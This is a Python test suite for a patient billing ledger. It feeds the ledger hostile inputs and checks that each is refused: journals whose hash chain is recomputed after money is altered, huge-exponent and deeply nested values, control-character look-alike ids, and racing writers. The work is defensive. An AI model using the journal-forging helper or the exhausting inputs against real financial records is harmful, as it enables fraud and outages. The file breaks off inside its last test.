"""Hostile files, racing writers and forged journals (issue 15): nothing lost, nothing invented,
every refusal quick and names what it refuses. One test (or table) per finding."""

from __future__ import annotations

import codecs
import csv
import datetime
import hashlib
import io
import json
import os
import re
import shutil
import sqlite3
import stat
import subprocess
import sys
import time
import tracemalloc
from collections.abc import Callable, Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from moneyed import Money

import patient_ledger as pl
from patient_ledger import cli
from patient_ledger.adapters import drchrono, fhir, imports
from patient_ledger.adapters.drchrono import _importer as drchrono_importer
from patient_ledger.adapters.drchrono import _reconcile as drchrono_reconcile
from patient_ledger.adapters.imports import load_mapping
from patient_ledger.cli import main
from patient_ledger.errors import (
    ConcurrencyError,
    InvalidAmountError,
    InvalidInputError,
    JournalError,
    LedgerError,
    StoreError,
)
from patient_ledger.invariants import check_invariants
from patient_ledger.persist import _files, journal
from patient_ledger.persist.store import open_store
from patient_ledger.report import tables
from tests import test_fuzz as fuzz
from tests.helpers import appointment, charge, pay
from tests.test_store import pg_url, url  # noqa: F401 - fixtures: both backends

D = datetime.date
CSV_HEAD = "id,patient_id,amount,received_on,method,type,appointment_id\n"
SRC = str(Path(__file__).parent.parent / "src")
HUGE = ("1e99999999", "1E+999999999999999999", "-1e99999999", "1E-999999999999999999")


def rows(prefix: str, n: int, patient: str = "P1") -> str:
    return CSV_HEAD + "".join(
        f"{prefix}{i},{patient},1.00,2025-04-01,CASH,PAYMENT,\n" for i in range(n)
    )


def canonical(record: dict[str, Any]) -> str:
    return json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=False)


def rehashed(records: list[dict[str, Any]]) -> str:
    """A forger's journal: every line's chain and hash recomputed after an edit."""
    prev, out = journal.GENESIS, []
    for seq, record in enumerate(records):
        content = {k: v for k, v in record.items() if k != "hash"} | {"seq": seq, "prev": prev}
        prev = hashlib.sha256(canonical(content).encode("utf-8", "surrogatepass")).hexdigest()
        out.append(canonical({**content, "hash": prev}) + "\n")
    return "".join(out)


def records(ledger: pl.Ledger) -> list[dict[str, Any]]:
    return [json.loads(line) for line in journal.dumps(ledger).splitlines()]


def quick(work: Callable[[], object], bound: float = 0.5) -> LedgerError:
    """Run ``work``; it must raise a LedgerError within ``bound`` CPU seconds."""
    start = time.process_time()
    with pytest.raises(LedgerError) as caught:
        work()
    assert time.process_time() - start < bound
    return caught.value


def cli_env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": SRC}


def importer(csv: Path, target: Path) -> subprocess.Popen[str]:
    command = [sys.executable, "-m", "patient_ledger", "import-payments", str(csv)]
    return subprocess.Popen(
        [*command, "--journal", str(target)],
        env=cli_env(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


@pytest.fixture
def booked(tmp_path: Path) -> Path:
    path = tmp_path / "clinic.jsonl"
    ledger = charge(appointment(pl.Ledger.empty(), "A1"), "C1", "A1", "100.00")
    path.write_text(journal.dumps(pay(ledger, "PAY0", "10.00")), encoding="utf-8")
    return path


def payment_ids(path: Path) -> set[str]:
    ledger = journal.loads(path.read_bytes())
    return {p.payment.id for p in ledger.events if isinstance(p, pl.PaymentPosted)}


# -- 1. racing importers ---------------------------------------------------------------------


def test_an_importer_waits_for_the_writer_holding_the_lock_then_appends_to_its_work(
    booked: Path, tmp_path: Path
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 3))
    with _files.locked(booked):
        waiting = importer(source, booked)
        time.sleep(1.0)
        assert waiting.poll() is None  # blocked on the lock, has not read the journal
        # Meanwhile the lock's holder appends its own batch.
        ledger = journal.loads(booked.read_bytes())
        ledger = pay(ledger, "B0", "5.00")
        booked.write_text(journal.dumps(ledger), encoding="utf-8")
    _, err = waiting.communicate(timeout=60)
    assert waiting.returncode == 0, err
    assert payment_ids(booked) == {"PAY0", "B0", "A0", "A1", "A2"}


def test_two_importers_at_once_both_land(booked: Path, tmp_path: Path) -> None:
    for round_ in range(2):
        (tmp_path / "a.csv").write_text(rows(f"A{round_}-", 200))
        (tmp_path / "b.csv").write_text(rows(f"B{round_}-", 200, "P2"))
        racers = [importer(tmp_path / name, booked) for name in ("a.csv", "b.csv")]
        for racer in racers:
            _, err = racer.communicate(timeout=120)
            assert racer.returncode == 0, err
    ids = payment_ids(booked)
    assert len(ids) == 1 + 2 * 2 * 200
    assert main(["verify", str(booked)]) == 0


def test_a_writer_that_ignores_the_lock_is_refused_not_overwritten(
    booked: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 2))
    theirs = journal.dumps(pay(journal.loads(booked.read_bytes()), "THEIRS", "7.00"))
    posting = imports.import_files

    def racing(*args: Any, **options: Any) -> tuple[pl.Ledger, imports.Summary]:
        done = posting(*args, **options)
        booked.write_text(theirs, encoding="utf-8")  # another program, no lock, mid-import
        return done

    monkeypatch.setattr(imports, "import_files", racing)
    assert main(["import-payments", str(source), "--journal", str(booked)]) == 1
    assert "changed while it was being written" in capsys.readouterr().err
    assert booked.read_text(encoding="utf-8") == theirs  # their work kept
    assert not list(tmp_path.glob(".*.tmp"))


def test_the_lock_times_out_with_a_clear_refusal(booked: Path) -> None:
    with _files.locked(booked):
        pid = os.fork()
        if pid == 0:  # pragma: no cover - the child reports through its exit code
            try:
                with _files.locked(booked, timeout=0.3):
                    os._exit(2)
            except ConcurrencyError as error:
                os._exit(0 if "another process" in str(error) else 3)
            os._exit(4)
        _, status = os.waitpid(pid, 0)
    assert os.waitstatus_to_exitcode(status) == 0


def test_a_killed_importer_leaves_the_old_journal_or_the_new_one(
    booked: Path, tmp_path: Path
) -> None:
    before = booked.read_bytes()
    source = tmp_path / "big.csv"
    source.write_text(rows("K", 3000))
    outcomes: set[bool] = set()
    for delay in (0.3, 0.8, 1.6):
        booked.write_bytes(before)
        racer = importer(source, booked)
        time.sleep(delay)
        racer.kill()
        racer.communicate()
        after = booked.read_bytes()
        assert after == before or after.startswith(before)
        journal.verify(after.decode())
        outcomes.add(after == before)
    assert outcomes  # whichever it was, the journal verified


# -- 2. a journal without its final newline ---------------------------------------------------


def test_import_into_a_journal_without_a_final_newline_ends_it_never_glues(
    booked: Path, tmp_path: Path
) -> None:
    booked.write_bytes(booked.read_bytes().rstrip(b"\n"))
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 2))
    assert main(["import-payments", str(source), "--journal", str(booked)]) == 0
    assert main(["verify", str(booked)]) == 0
    assert payment_ids(booked) == {"PAY0", "A0", "A1"}


# -- 3. huge exponents, refused in no time, wherever an amount enters ---------------------------


@pytest.mark.parametrize("text", HUGE)
def test_a_huge_exponent_is_refused_at_once_as_a_payment(text: str) -> None:
    error = quick(lambda: pl.Payment("P", "P1", Money(text, "USD"), D(2025, 1, 1)))
    assert isinstance(error, InvalidAmountError)


@pytest.mark.parametrize("text", [*HUGE, "9" * 100_000, "1" + "0" * 13])
def test_a_huge_amount_is_refused_at_once_in_a_csv_cell(
    text: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(CSV_HEAD + f"X1,P1,{text},2025-04-01,CASH,PAYMENT,\n")
    target = tmp_path / "new.jsonl"
    start = time.process_time()
    assert main(["import-payments", str(source), "--journal", str(target)]) == 1
    assert time.process_time() - start < 0.5
    assert "line 2" in capsys.readouterr().err
    assert not target.exists()


@pytest.mark.parametrize("text", HUGE)
def test_a_huge_amount_is_refused_at_once_in_a_journal_line(text: str) -> None:
    forged = records(pay(pl.Ledger.empty(), "PAY1", "10.00"))
    forged[1]["event"]["payment"]["amount"]["amount"] = text
    error = quick(lambda: journal.loads(rehashed(forged)))
    assert isinstance(error, JournalError)
    assert error.line == 2


@pytest.mark.parametrize("text", HUGE)
def test_a_huge_amount_is_refused_at_once_from_drchrono(text: str) -> None:
    appointments = [{"id": 1, "patient": 7, "scheduled_time": "2025-01-02T09:00:00"}]
    record = {"id": 9, "patient": 7, "appointment": 1, "received_date": "2025-01-02"}
    for amount in (Decimal(text), text):
        error = quick(lambda a=amount: drchrono.load(appointments, [], [{**record, "amount": a}]))
        assert isinstance(error, InvalidAmountError)
    parsed = drchrono.read_json(
        json.dumps([record]).replace('"id": 9', f'"amount": {text}, "id": 9')
    )
    error = quick(lambda: drchrono.load(appointments, [], parsed))
    assert isinstance(error, InvalidAmountError)


# -- 4. a save or a base from another history --------------------------------------------------


def two_histories() -> tuple[pl.Ledger, pl.Ledger]:
    """Two ledgers whose third lines are alike, with different second lines."""
    ten = pay(pl.Ledger.empty(), "PAY_A", "10.00")
    grand = pay(pl.Ledger.empty(), "PAY_A", "1000.00")
    return pay(ten, "PAY_B", "5.00", pid="P2"), pay(grand, "PAY_B", "5.00", pid="P2")


def test_save_refuses_a_ledger_from_another_history_even_when_the_last_lines_match(
    url: str,  # noqa: F811 - the fixture imported above
) -> None:
    stored, other = two_histories()
    store = open_store(url)
    name = f"forked-{time.time_ns()}"
    try:
        store.save(name, stored, expected_version=0)
        refund_900 = pl.Payment(
            "R1", "P1", Money("-900.00", "USD"), D(2025, 1, 23), type=pl.PaymentType.REFUND
        )
        with pytest.raises(ConcurrencyError, match="does not extend"):
            store.save(name, pl.refund(other, refund_900), expected_version=3)
        fresh = open_store(url)  # no memory of what was saved: the chain is computed
        with pytest.raises(ConcurrencyError, match="does not extend"):
            fresh.save(name, pl.refund(other, refund_900), expected_version=3)
        fresh.close()
        assert store.load(name) == stored
        assert pl.dashboard(store.load(name), "P1").unallocated == Money("10.00", "USD")
    finally:
        store.close()


def test_load_refuses_a_base_from_another_history(url: str) -> None:  # noqa: F811
    stored, other = two_histories()
    store = open_store(url)
    name = f"forked-{time.time_ns()}"
    try:
        store.save(name, pay(stored, "PAY_C", "1.00"), expected_version=0)
        with pytest.raises(ConcurrencyError, match="not a prefix"):
            store.load(name, base=other)
        assert store.load(name, base=stored) == pay(stored, "PAY_C", "1.00")
    finally:
        store.close()


# -- 5. a rehashed journal that invents money --------------------------------------------------


def honest() -> pl.Ledger:
    ledger = charge(appointment(pl.Ledger.empty(), "A1"), "C1", "A1", "100.00")
    return pay(pay(ledger, "PAY1", "100.00", "A1"), "PAY2", "3.00")


def invented() -> str:
    """A payment of $100 raised to $1,000 (allocated still $100), the chain recomputed."""
    forged = records(honest())
    assert forged[3]["type"] == "PaymentPosted"
    forged[3]["event"]["payment"]["amount"]["amount"] = "1000.00"
    return rehashed(forged)


def test_loads_names_the_event_after_which_an_invariant_breaks() -> None:
    error = quick(lambda: journal.loads(invented()), bound=5)
    assert isinstance(error, JournalError)
    assert error.line == 4
    assert "invariant" in str(error)


@pytest.mark.parametrize(
    ("line", "amount", "named", "why"),
    [
        # a refund of $5 forged to $3: consistent until the cancellation that pairs it with $5,
        # which takes $5 from an entry holding $3: that event does not fit
        (5, "-3.00", 8, "entry 'E2' holds -3.00 USD: -5.00 USD cannot be taken from it"),
        (
            6,
            "-3.00",
            7,
            "entry 'E1' holds 25.00 USD: -3.00 USD cannot be",
        ),  # money made out of nothing
        (3, "0.01", 4, "invariant 1 breaks"),  # one patient's figures: the quick bisection
    ],
)
def test_every_kind_of_forgery_names_its_event(
    line: int, amount: str, named: int, why: str
) -> None:
    forged = [json.loads(text) for text in fuzz.LINES]
    fuzz.amount_slots(forged[line])[0]["amount"] = amount
    error = quick(lambda: journal.loads(fuzz.rehash(forged)), bound=5)
    assert isinstance(error, JournalError)
    assert error.line == named
    assert why in str(error)
    for n in range(1, named):  # every journal cut before the named event is sound
        assert not check_invariants(journal.loads(fuzz.rehash(forged[:n])))


def test_store_load_refuses_a_forged_journal(tmp_path: Path) -> None:
    path = tmp_path / "s.db"
    store = open_store(f"sqlite:///{path}")
    store.save("forged", honest(), expected_version=0)
    store.close()
    raw = sqlite3.connect(path)
    lines = invented().splitlines()
    with raw:
        for seq, line in enumerate(lines):
            raw.execute(
                "UPDATE journal_events SET hash = ?, body = ? WHERE seq = ?",
                (*journal.pack(line), seq),
            )
        raw.execute("UPDATE journal_heads SET head = ?", (json.loads(lines[-1])["hash"],))
    raw.close()
    store = open_store(f"sqlite:///{path}")
    with pytest.raises(JournalError, match="invariant") as caught:
        store.load("forged")
    assert caught.value.line == 4
    store.close()


def test_report_and_verify_refuse_a_forged_journal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    path = tmp_path / "forged.jsonl"
    path.write_text(invented(), encoding="utf-8")
    assert main(["report", str(path), "--patient", "P1", "--on", "2025-02-01"]) == 1
    assert "line 4" in capsys.readouterr().err
    assert main(["verify", str(path)]) == 1
    assert "line 4" in capsys.readouterr().err


# -- 6. FHIR ----------------------------------------------------------------------------------

FHIR_ID = r"[A-Za-z0-9\-.]{1,64}"


def test_fhir_json_is_valid_whatever_the_strings_hold() -> None:
    import re

    tricky = ['a"__exact_decimal__1', "__exact_decimal__5", '\\"', "\u2028", "é\x00"]
    ledger = pl.Ledger.empty()
    for n, reference in enumerate(tricky):
        ledger = pl.post_payment(
            ledger,
            pl.Payment(f"PAY{n}", "P1", Money("1.50", "USD"), D(2025, 1, 1), reference=reference),
        )
    bundle = fhir.to_fhir(ledger, "P1")
    for indent in (None, 2):
        text = fhir.fhir_json(bundle, indent=indent)
        assert "__exact_decimal__" not in text.replace("__exact_decimal__1", "").replace(
            "__exact_decimal__5", ""
        )
        back = json.loads(text, parse_float=Decimal)
        assert back == bundle
    got = [e["resource"]["paymentIdentifier"]["value"] for e in bundle["entry"][1:]]
    assert got == tricky
    assert re.search(r"\b1\.50\b", fhir.fhir_json(bundle))


def test_fhir_ids_are_valid_and_distinct() -> None:
    import re

    ids = ["P_1", "P 1", "Pé", "P.1", "P-1", "P.5f1", "x" * 80, "x" * 81, "日本"]
    for patient in ids:
        ledger = appointment(pl.Ledger.empty(), f"A_{patient}", pid=patient)
        ledger = charge(ledger, f"C {patient}", f"A_{patient}", "5.00")
        ledger = pay(ledger, f"PAY/{patient}", "5.00", f"A_{patient}", pid=patient)
        bundle = fhir.to_fhir(ledger, patient)
        text = fhir.fhir_json(bundle)
        for found in re.findall(r'"id": "([^"]*)"', text):
            assert re.fullmatch(FHIR_ID, found), found
        for found in re.findall(r'"reference": "[A-Za-z]+/([^"]*)"', text):
            assert re.fullmatch(FHIR_ID, found), found
    mapped = [fhir.fhir_id(i, "patient-") for i in ids]
    assert len(set(mapped)) == len(ids)
    assert fhir.fhir_id("P-1") == "P-1"


# -- 7. symlinks, modes, fsync ---------------------------------------------------------------


def test_import_through_a_symlink_writes_its_target_and_keeps_the_mode(
    booked: Path, tmp_path: Path
) -> None:
    booked.chmod(0o640)
    link = tmp_path / "current.jsonl"
    link.symlink_to(booked)
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 2))
    assert main(["import-payments", str(source), "--journal", str(link)]) == 0
    assert link.is_symlink()
    assert payment_ids(booked) == {"PAY0", "A0", "A1"}
    assert stat.S_IMODE(booked.stat().st_mode) == 0o640


def test_a_new_journal_gets_the_usual_mode(tmp_path: Path) -> None:
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 1))
    old = os.umask(0o022)
    try:
        assert main(["import-payments", str(source), "--journal", str(tmp_path / "n.jsonl")]) == 0
    finally:
        os.umask(old)
    assert stat.S_IMODE((tmp_path / "n.jsonl").stat().st_mode) == 0o644


def test_the_file_and_its_folder_are_synced(
    booked: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    synced: list[str] = []
    real_fsync = os.fsync

    def fsync(fd: int) -> None:
        synced.append("dir" if stat.S_ISDIR(os.fstat(fd).st_mode) else "file")
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", fsync)
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 1))
    assert main(["import-payments", str(source), "--journal", str(booked)]) == 0
    assert synced == ["file", "dir"]


# -- 8. deep nesting, non-UTF-8, lone surrogates, sub-errors ----------------------------------


def valid_lines() -> list[str]:
    return journal.dumps(pay(pl.Ledger.empty(), "PAY1", "10.00")).splitlines()


@pytest.mark.parametrize("depth", [1_000, 100_000])
def test_deep_nesting_is_a_journal_error_naming_the_line(depth: int) -> None:
    lines = valid_lines()
    for nested in ("[" * depth + "]" * depth, '{"a":' * depth + "1" + "}" * depth):
        text = "\n".join([lines[0], nested, lines[1]]) + "\n"
        error = quick(lambda text=text: journal.loads(text))
        assert isinstance(error, JournalError)
        assert error.line == 2


def test_non_utf8_bytes_are_a_journal_error_naming_the_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    lines = valid_lines()
    data = (lines[0] + "\n").encode() + b'{"\xff\xfe"}\n'
    error = quick(lambda: journal.loads(data))
    assert isinstance(error, JournalError)
    assert error.line == 2
    path = tmp_path / "bad.jsonl"
    path.write_bytes(data)
    for command in (["verify", str(path)], ["report", str(path), "--patient", "P1"]):
        assert main(command) == 1
        assert "line 2" in capsys.readouterr().err


def test_lone_surrogates_are_a_journal_error_naming_the_line() -> None:
    forged = records(pay(pl.Ledger.empty(), "PAY1", "10.00"))
    forged[1]["event"]["payment"]["notes"] = "\ud800"
    escaped = rehashed(forged).replace("\ud800", "\\ud800")  # as a JSON escape
    error = quick(lambda: journal.loads(escaped))
    assert isinstance(error, JournalError)
    assert error.line == 2
    lines = valid_lines()
    raw = lines[0] + "\n" + lines[1].replace('"notes":""', '"notes":"\ud800"') + "\n"
    error = quick(lambda: journal.loads(raw))
    assert isinstance(error, JournalError)
    assert error.line == 2
    with pytest.raises(InvalidInputError, match="surrogate"):
        pl.Payment("PAY\ud800", "P1", Money("1", "USD"), D(2025, 1, 1))


def test_a_malformed_event_says_what_each_sub_error_was() -> None:
    forged = records(pay(pl.Ledger.empty(), "PAY1", "10.00"))
    forged[1]["event"]["payment"]["amount"]["amount"] = "ten"
    forged[1]["event"]["payment"]["received_on"] = "someday"
    error = quick(lambda: journal.loads(rehashed(forged)))
    message = str(error)
    assert "sub-exception" not in message
    assert "payment.amount" in message
    assert "not a decimal amount" in message
    assert "received_on" in message


# -- 9. the CSV import reads strictly ---------------------------------------------------------


@pytest.mark.parametrize(
    ("amount", "day"),
    [
        ("1_000", "2025-03-01"),
        ("1e3", "2025-03-01"),
        ("١٠٠", "2025-03-01"),  # Arabic-Indic digits
        ("１００", "2025-03-01"),  # full-width digits
        ("+5", "2025-03-01"),
        ("10.00", "20250301"),
        ("10.00", "2025-W09-6"),
        ("10.00", "２０２５-03-01"),
        ("10.00", "2025-03-01T00:00"),
    ],
)
def test_the_csv_import_accepts_only_ascii_decimals_and_iso_dates(
    amount: str, day: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(CSV_HEAD + f"X1,P1,{amount},{day},CASH,PAYMENT,\n", encoding="utf-8")
    target = tmp_path / "new.jsonl"
    assert main(["import-payments", str(source), "--journal", str(target)]) == 1
    assert "line 2" in capsys.readouterr().err
    assert not target.exists()


def test_currency_is_checked_against_an_existing_journal(
    booked: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    before = booked.read_bytes()
    source = tmp_path / "a.csv"
    source.write_text(rows("A", 1))
    command = ["import-payments", str(source), "--journal", str(booked)]
    assert main([*command, "--currency", "EUR"]) == 1
    assert "EUR" in capsys.readouterr().err
    assert booked.read_bytes() == before
    assert main([*command, "--currency", "USD"]) == 0


def test_an_excel_byte_order_mark_is_skipped(booked: Path, tmp_path: Path) -> None:
    source = tmp_path / "excel.csv"
    source.write_bytes(codecs.BOM_UTF8 + rows("A", 1).replace("\n", "\r\n").encode())
    assert main(["import-payments", str(source), "--journal", str(booked)]) == 0
    assert "A0" in payment_ids(booked)


def test_line_numbers_count_lines_of_the_file_after_a_multi_line_field(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(
        # (a cell is trimmed of ASCII spaces only: a multi-line note, not a multi-line id)
        CSV_HEAD.replace("appointment_id", "notes")
        + 'X1,P1,1.00,2025-04-01,CASH,PAYMENT,"a\nnote\n"\n'  # lines 2 to 4
        "X2,P1,1.00,2025-04-01,CASH,PAYMENT,\n"  # line 5
        '"X3\n",P1,oops,2025-04-01,CASH,PAYMENT,\n'  # lines 6 and 7
    )
    assert main(["import-payments", str(source), "--journal", str(tmp_path / "n.jsonl")]) == 1
    assert "line 6:" in capsys.readouterr().err


def test_a_non_utf8_csv_names_its_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "a.csv"
    source.write_bytes((rows("A", 40_000)).encode() + b"X,P1,1.00,2025-04-01,CA\xe9SH,PAYMENT,\n")
    assert main(["import-payments", str(source), "--journal", str(tmp_path / "n.jsonl")]) == 1
    assert "line 40002:" in capsys.readouterr().err


# -- 11. canonical form only ------------------------------------------------------------------


def edits() -> Iterator[tuple[str, Callable[[dict[str, Any]], None] | str]]:
    yield "spaces", "spaces"
    yield "escapes", "escapes"
    yield "key order", "order"
    yield "duplicate key", "duplicate"
    yield "extra key", lambda r: r["event"]["payment"].update(extra="x")
    yield "lower-case currency", lambda r: r["event"]["payment"]["amount"].update(currency="usd")
    yield "amount 10.0", lambda r: r["event"]["payment"]["amount"].update(amount="10.0")
    yield "amount 010.00", lambda r: r["event"]["payment"]["amount"].update(amount="010.00")
    yield "id as a number", lambda r: r["event"].update(entry_id=1)
    yield "v as true", lambda r: r.update(v=True)
    yield "version 2 for a version-1 shape", lambda r: r.update(v=2)
    yield "charge_id null written out", lambda r: r["event"]["payment"].update(charge_id=None)


@pytest.mark.parametrize(("what", "edit"), list(edits()), ids=[w for w, _ in edits()])
def test_only_the_canonical_form_verifies(what: str, edit: Any) -> None:
    text = journal.dumps(pay(pl.Ledger.empty(), "PAY1", "10.00"))
    assert journal.dumps(journal.loads(text)) == text
    lines = text.splitlines()
    record = json.loads(lines[1])
    if edit == "spaces":
        lines[1] = json.dumps(record, sort_keys=True)
    elif edit == "escapes":
        lines[1] = lines[1].replace('"PAY1"', '"\\u0050AY1"')
    elif edit == "order":
        lines[1] = json.dumps(dict(reversed(record.items())), separators=(",", ":"))
    elif edit == "duplicate":
        lines[1] = lines[1].replace('{"event":', '{"event":{},"event":', 1)
    else:
        forged = [json.loads(line) for line in lines]
        edit(forged[1])
        lines = rehashed(forged).splitlines()
    error = quick(lambda: journal.loads("\n".join(lines) + "\n"))
    assert isinstance(error, JournalError), what
    assert error.line == 2


def test_journals_written_before_line_items_still_load_byte_for_byte() -> None:
    text = (Path(__file__).parent / "data" / "journal_before_lines.jsonl").read_text("utf-8")
    assert journal.dumps(journal.loads(text)) == text


# -- 12. blank ids, NUL names, read-only stores ------------------------------------------------


@pytest.mark.parametrize("blank", ["\u200b", "\u200b\u200c\u2060", " \ufeff ", "\u00a0", "\x00"])
def test_invisible_only_ids_are_blank(blank: str) -> None:
    with pytest.raises(InvalidInputError, match="empty"):
        pl.Payment(blank, "P1", Money("1", "USD"), D(2025, 1, 1))
    with pytest.raises(InvalidInputError, match="empty"):
        pl.Appointment("A1", blank, D(2025, 1, 1))


def test_a_nul_in_a_journal_name_is_a_ledger_error(url: str) -> None:  # noqa: F811
    store = open_store(url)
    try:
        # Issue 25, item 9: a NUL is refused in every id, journal names included.
        with pytest.raises(InvalidInputError, match=r"U\+0000"):
            store.save("a\x00b", pl.Ledger.empty(), expected_version=0)
        with pytest.raises(InvalidInputError, match=r"U\+0000"):
            store.load("a\x00b")
        with pytest.raises(InvalidInputError, match="empty"):
            store.save("\u200b", pl.Ledger.empty(), expected_version=0)
    finally:
        store.close()


READ_ONLY_CHECK = """
import sys
from patient_ledger.errors import StoreError
from patient_ledger.invariants import check_invariants
from patient_ledger.persist.store import open_store
store = open_store(sys.argv[1])
assert len(store.load("clinic").events) == 3, "loaded"
try:
    store.save("clinic", store.load("clinic"), expected_version=3)
except StoreError as error:
    print("refused:", error)
"""


def test_an_sqlite_store_on_read_only_media_opens_for_reading(tmp_path: Path) -> None:
    if shutil.which("unshare") is None:
        pytest.skip("needs unshare to mount a folder read-only")
    folder = tmp_path / "media"
    folder.mkdir()
    store = open_store(f"sqlite:///{folder}/s.db")
    store.save(
        "clinic", pay(pay(pl.Ledger.empty(), "PAY1", "1.00"), "PAY2", "2.00"), expected_version=0
    )
    store.close()
    script = tmp_path / "check.py"
    script.write_text(READ_ONLY_CHECK)
    mount = f"mount --bind {folder} {folder} && mount -o remount,ro,bind {folder}"
    probe = subprocess.run(
        ["unshare", "-rm", "sh", "-c", f"{mount} && touch {folder}/x"],
        capture_output=True,
        text=True,
        check=False,
    )
    if "Read-only" not in probe.stderr:
        pytest.skip(f"cannot mount read-only here: {probe.stderr.strip()}")
    done = subprocess.run(
        [
            "unshare",
            "-rm",
            "sh",
            "-c",
            f'{mount} && "$0" "$1" "$2"',
            sys.executable,
            str(script),
            f"sqlite:///{folder}/s.db",
        ],
        capture_output=True,
        text=True,
        env=cli_env(),
        check=False,
    )
    assert done.returncode == 0, done.stderr
    assert "refused: the store is open read-only" in done.stdout


def test_a_read_only_store_refuses_to_save(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "s.db"
    store = open_store(f"sqlite:///{path}")
    store.save("clinic", pay(pl.Ledger.empty(), "PAY1", "1.00"), expected_version=0)
    store.close()
    connect = sqlite3.connect

    def read_only_media(database: str, *args: Any, **kwargs: Any) -> sqlite3.Connection:
        if not kwargs.get("uri"):
            database = f"{Path(database).resolve().as_uri()}?mode=ro"
            kwargs["uri"] = True
        return connect(database, *args, **kwargs)

    monkeypatch.setattr(sqlite3, "connect", read_only_media)
    store = open_store(f"sqlite:///{path}")
    assert len(store.load("clinic").events) == 2
    with pytest.raises(StoreError, match="read-only"):
        store.save("clinic", pay(store.load("clinic"), "PAY2", "1.00"), expected_version=2)
    store.close()


# -- 13. memory: the CSV is read a line at a time ----------------------------------------------


def test_a_bad_row_near_the_top_is_refused_without_reading_the_rest(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "big.csv"
    with source.open("w") as out:
        out.write(CSV_HEAD + "X0,P1,oops,2025-04-01,CASH,PAYMENT,\n")
        for i in range(200_000):
            out.write(f"X{i + 1},P1,1.00,2025-04-01,CASH,PAYMENT,\n")
    tracemalloc.start()
    try:
        assert main(["import-payments", str(source), "--journal", str(tmp_path / "n.jsonl")]) == 1
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert "line 2:" in capsys.readouterr().err
    assert peak < 2_000_000  # the whole file as rows would take well over 50 MB


# == Issue 25 (hostile round 2): files and output — items 1, 8, 9, 10, 11, 16, 17 ============

# -- 9. look-alike ids -------------------------------------------------------------------------

LOOK_ALIKES = [
    ("P1\u200b", 0x200B),  # zero-width space (Cf)
    ("P1\x00", 0x0),  # NUL (Cc)
    ("P\x1b[2J1", 0x1B),  # ESC (Cc)
    ("P1\u2028", 0x2028),  # line separator (Zl)
    ("P\u20291", 0x2029),  # paragraph separator (Zp)
    ("\ufeffP1", 0xFEFF),  # a BOM (Cf)
    ("P\u202e1", 0x202E),  # right-to-left override (Cf)
    (" P1", 0x20),  # leading whitespace
    ("P1\u00a0", 0xA0),  # trailing no-break space
    ("P1\t", 0x9),  # a tab (Cc)
]


@pytest.mark.parametrize(("look_alike", "code_point"), LOOK_ALIKES)
def test_a_look_alike_id_is_refused_naming_the_id_and_the_character(
    look_alike: str, code_point: int
) -> None:
    """Item 9: 'P1\\u200b' was a second patient that printed as P1."""
    ledger = pay(pl.Ledger.empty(), "PAY1", "10.00")
    with pytest.raises(InvalidInputError) as caught:
        pay(ledger, "PAY2", "10.00", pid=look_alike)
    assert repr(look_alike) in str(caught.value)
    assert f"U+{code_point:04X}" in str(caught.value)
    assert caught.value.details["code_point"] == code_point
    with pytest.raises(InvalidInputError, match=f"U\\+{code_point:04X}"):
        pl.Appointment(look_alike, "P1", D(2025, 1, 2))


def test_ids_that_print_plainly_are_still_ids() -> None:
    """Item 9: inner spaces, accents, other scripts and private-use characters are kept."""
    for good in ("P 1", "Zoë", "患者-7", "P\ue000", "P1\u00a0x"):
        assert pl.Appointment("A1", good, D(2025, 1, 2)).patient_id == good


def test_a_look_alike_id_in_a_csv_import_is_refused_naming_the_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    source = tmp_path / "a.csv"
    source.write_text(CSV_HEAD + "X1,P1,1.00,2025-04-01,CASH,PAYMENT,\n"
                      "X2,P1\u200b,1.00,2025-04-01,CASH,PAYMENT,\n", encoding="utf-8")  # fmt: skip
    target = tmp_path / "j.jsonl"
    assert main(["import-payments", str(source), "--journal", str(target)]) == 1
    err = capsys.readouterr().err
    assert "line 3:" in err
    assert "U+200B" in err
    assert not target.exists()


# -- 1. commands that write a whole new journal never replace a file unless told --------------

DRCHRONO_DATA = Path(__file__).parent / "data" / "drchrono"
NEW_JOURNAL_COMMANDS: dict[str, list[str]] = {
    "import-drchrono": ["import-drchrono", str(DRCHRONO_DATA)],
    "demo": ["demo", "--scenario", "seed", "--colour", "never"],
}


@pytest.mark.parametrize("command", NEW_JOURNAL_COMMANDS)
@pytest.mark.parametrize("existing", ["csv", "journal"])
def test_a_command_writing_a_new_journal_refuses_an_existing_file(
    command: str, existing: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Item 1: import-drchrono and demo replaced any file at --journal and exited 0."""
    target = tmp_path / "practice.jsonl"
    if existing == "csv":
        target.write_text(CSV_HEAD + "X1,P1,1.00,2025-04-01,CASH,PAYMENT,\n", encoding="utf-8")
    else:
        target.write_text(journal.dumps(pay(pl.Ledger.empty(), "PAY1", "10.00")), encoding="utf-8")
